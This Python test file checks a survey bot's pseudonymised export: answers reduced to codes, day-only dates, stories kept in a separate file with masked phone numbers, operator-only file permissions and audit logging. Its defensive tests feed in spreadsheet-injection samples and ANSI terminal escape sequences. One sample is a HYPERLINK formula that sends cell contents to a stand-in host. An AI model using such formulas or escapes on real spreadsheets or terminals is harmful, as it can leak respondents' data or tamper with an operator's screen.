"""The pseudonymised export: one row per consented response, codes not wording, dates to the day,
no pseudonym, and the stories in a file of their own joined by the running row number."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

from bot.admin.export import (
    STORY_COLUMNS,
    columns,
    export_text,
    export_texts,
    municipal_day,
    spreadsheet_safe,
)
from tests.support import Harness
from tests.support import run_bot_command as run_bot
from tests.test_survey_flow import answer_all, begin

DAY = re.compile(r"^\d{4}-\d{2}-\d{2}$")
STORY = "Min berättelse, ring 0701234567"


async def test_export_rows_are_codes_whatever_the_language(harness: Harness) -> None:
    swedish = harness.resident(4001, "sv")
    english = harness.resident(4002, "en")
    unfinished = harness.resident(4003, "sv")
    not_consented = harness.resident(4004, "sv")
    speaker = harness.resident(4005, "sv")
    await begin(swedish, "sv")
    await answer_all(swedish)
    await swedish.say(STORY)
    await begin(english, "en")
    await answer_all(english)
    await english.press("s:story")
    await begin(unfinished, "sv")
    await unfinished.press("s:visits")
    await not_consented.command("start")
    await not_consented.press("lang:sv")
    await begin(speaker, "sv")
    await answer_all(speaker)
    await harness.api.send_voice(4005, duration=42, file_id="VOICE-FILE-1")
    await harness.deliver()

    survey = harness.services.survey
    repository = harness.services.surveys.repository
    answers, stories = await export_texts(repository, survey, "csv")
    rows = list(csv.DictReader(io.StringIO(answers)))
    assert len(rows) == 4, "only consented responses are exported"
    first, second, third, fourth = rows
    assert [r["response"] for r in rows] == ["1", "2", "3", "4"]
    assert first["language"] == "sv" and second["language"] == "en"
    for row in (first, second, fourth):
        assert row["state"] == "completed"
        assert row["agencies"] == "fk;skv" and row["errands"] == "letter;eservices"
        assert row["move_ease"] == "much_harder" and row["survey_version"] == survey.version
        assert DAY.match(row["completed_on"]), row["completed_on"]
    assert third["state"] == "started" and third["visits"] == "skipped" and third["errands"] == ""
    assert third["completed_on"] == ""
    for row in rows:
        # The day only: a time to the second could be matched against who was at the office when.
        assert DAY.match(row["started_on"]) and DAY.match(row["consented_on"]), row
    assert list(rows[0]) == columns(survey)
    # The answers file says whether there is a story, never what it says or its language.
    assert [row["story"] for row in rows] == ["text", "", "", "voice"]
    assert not [column for column in rows[0] if column.startswith("story_")]
    assert "Min berättelse" not in answers and "[telefon]" not in answers

    story_rows = list(csv.DictReader(io.StringIO(stories)))
    assert list(story_rows[0]) == STORY_COLUMNS
    assert story_rows == [
        {
            "response": "1",
            "story_language": "sv",
            "story_text": "Min berättelse, ring [telefon]",
            "story_voice_seconds": "",
        },
        {"response": "4", "story_language": "", "story_text": "", "story_voice_seconds": "42"},
    ]

    pseudonyms = {harness.services.pseudonymize(uid) for uid in (4001, 4002, 4003, 4005)}
    answers_jsonl, stories_jsonl = await export_texts(repository, survey, "jsonl")
    assert not any(p in text for p in pseudonyms for text in (answers, stories, answers_jsonl, stories_jsonl))
    records = [json.loads(line) for line in answers_jsonl.splitlines()]
    assert records[0]["agencies"] == "fk;skv" and len(records) == 4
    assert list(records[0]) == columns(survey) and "Min berättelse" not in answers_jsonl
    told = [json.loads(line) for line in stories_jsonl.splitlines()]
    assert [(story["response"], story["story_text"]) for story in told] == [
        (1, "Min berättelse, ring [telefon]"),
        (4, ""),
    ]
    # Without a stories file the answers are the same, and nothing of the stories is written.
    assert await export_text(repository, survey, "csv") == answers


def test_dates_are_the_municipalitys_day() -> None:
    # 23:30 UTC on 26 November is already 27 November in Botkyrka (UTC+1 in winter).
    assert municipal_day("2026-11-26T23:30:00+00:00") == "2026-11-27"
    assert municipal_day("2026-06-30T21:59:59+00:00") == "2026-06-30"
    assert municipal_day(None) == ""


async def test_csv_for_excel_starts_with_a_bom(harness: Harness) -> None:
    from bot.admin.export import write_export

    answers, stories = io.StringIO(), io.StringIO()
    survey = harness.services.survey
    exported = await write_export(
        harness.services.surveys.repository, survey, answers, stories=stories, fmt="csv", bom=True
    )
    assert exported.responses == 0 and exported.stories == 0
    assert answers.getvalue().startswith("\ufeffresponse,")
    assert stories.getvalue() == "\ufeff" + ",".join(STORY_COLUMNS) + "\r\n"


FORMULAS = [
    '=HYPERLINK("https://example.org/?q="&A2&B2,"Klicka")',
    "+46 är riktnumret, inte en formel",
    "-1+1 blev fel",
    "@SUM(A1:A9)",
    "  =1+1 efter mellanslag",
    "＝1+1 med bred likhetstecken",
]


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(harness: Harness) -> None:
    for number, story in enumerate(FORMULAS):
        resident = harness.resident(4100 + number, "sv")
        await begin(resident, "sv")
        await answer_all(resident)
        await resident.say(story)
    survey = harness.services.survey
    repository = harness.services.surveys.repository
    answers, stories = await export_texts(repository, survey, "csv")
    rows = list(csv.DictReader(io.StringIO(answers)))
    stored = [row["story_text"] for row in csv.DictReader(io.StringIO(stories))]
    assert len(stored) == len(FORMULAS)
    for cell in stored:
        # Every story reaches the sheet as text: an apostrophe first, then what was stored.
        assert cell.startswith("'"), cell
    assert stored[0] == "'" + FORMULAS[0]
    # JSON Lines is not opened by spreadsheets: there the story stays exactly as stored.
    _, text = await export_texts(repository, survey, "jsonl")
    in_jsonl = [json.loads(line)["story_text"] for line in text.splitlines()]
    assert in_jsonl[0] == FORMULAS[0]
    assert ["'" + story for story in in_jsonl] == stored
    # Ordinary cells are untouched: codes, dates and the running number.
    assert rows[0]["response"] == "1" and rows[0]["agencies"] == "fk;skv"


def test_a_story_stored_with_terminal_escapes_reaches_the_csv_without_them() -> None:
    # Stories are cleaned on the way in; one stored earlier is cleaned on the way out too, so
    # `python -m bot export` cannot clear or recolour the operator's terminal.
    assert spreadsheet_safe("\x1b[2J\x1b[31mRöd text\x1b[0m") == "Röd text"
    assert spreadsheet_safe("\x1b[2J=1+1") == "'=1+1"
    assert spreadsheet_safe(12) == 12 and spreadsheet_safe("weekly") == "weekly"


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_command_line_keeps_stories_apart_and_dates_to_the_day(tmp_path: Path) -> None:
    database = tmp_path / "demo.sqlite3"
    filled = run_bot(tmp_path, "demo-data", "--responses", "60", "--database", str(database))
    assert filled.returncode == 0, filled.stderr
    settings = {"DATABASE_PATH": str(database)}

    answers, stories = tmp_path / "svar.csv", tmp_path / "berattelser.csv"
    result = run_bot(
        tmp_path, "export", "--out", str(answers), "--stories", str(stories), "--bom", **settings
    )
    assert result.returncode == 0, result.stderr
    assert "60 responses" in result.stderr
    assert answers.read_bytes().startswith(b"\xef\xbb\xbf") and stories.read_bytes().startswith(
        b"\xef\xbb\xbf"
    )
    rows, told = _read_csv(answers), _read_csv(stories)
    assert len(rows) == 60 and told
    for row in rows:
        assert DAY.match(row["started_on"]) and DAY.match(row["consented_on"])
        assert row["completed_on"] == "" or DAY.match(row["completed_on"])
    # Joined by the running number: every story belongs to a row that says it has one, and back.
    by_number = {row["response"]: row for row in rows}
    assert {story["response"] for story in told} == {row["response"] for row in rows if row["story"]}
    assert all(by_number[story["response"]]["story"] == "text" for story in told)
    answers_text = answers.read_text(encoding="utf-8")
    assert not any(story["story_text"] in answers_text for story in told)
    # Personal data on the server: readable by the operator alone.
    assert (answers.stat().st_mode & 0o777) == 0o600 and (stories.stat().st_mode & 0o777) == 0o600

    jsonl, stories_jsonl = tmp_path / "svar.jsonl", tmp_path / "berattelser.jsonl"
    result = run_bot(
        tmp_path,
        "export",
        "--format",
        "jsonl",
        "--out",
        str(jsonl),
        "--stories",
        str(stories_jsonl),
        **settings,
    )
    assert result.returncode == 0, result.stderr
    records = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    told_jsonl = [json.loads(line) for line in stories_jsonl.read_text(encoding="utf-8").splitlines()]
    assert [record["response"] for record in records] == list(range(1, 61))
    assert [story["story_text"] for story in told_jsonl] == [story["story_text"] for story in told]

    # Without --stories the main file is the same and the stories are written nowhere.
    alone = run_bot(tmp_path, "export", **settings)
    assert alone.returncode == 0, alone.stderr
    assert alone.stdout == answers_text.removeprefix("\ufeff")

    # Each export is on the record, as an action from the command line.
    connection = sqlite3.connect(database)
    try:
        audit = connection.execute("SELECT actor, action, detail FROM admin_audit ORDER BY id").fetchall()
    finally:
        connection.close()
    assert [(actor, action) for actor, action, _ in audit] == [("cli", "export")] * 3
    assert re.search(r"\b\d+ stories", audit[0][2]) and "no stories" in audit[2][2]

    same = run_bot(tmp_path, "export", "--out", str(answers), "--stories", str(answers), **settings)
    assert same.returncode == 2 and "--stories" in same.stderr

    described = run_bot(tmp_path, "export", "--help")
    help_text = " ".join(described.stdout.split())
    assert "pseudonymised, not anonymised" in help_text
    assert "anonymised" not in help_text.replace("not anonymised", "")
    assert "--stories" in help_text and "separate file" in help_text
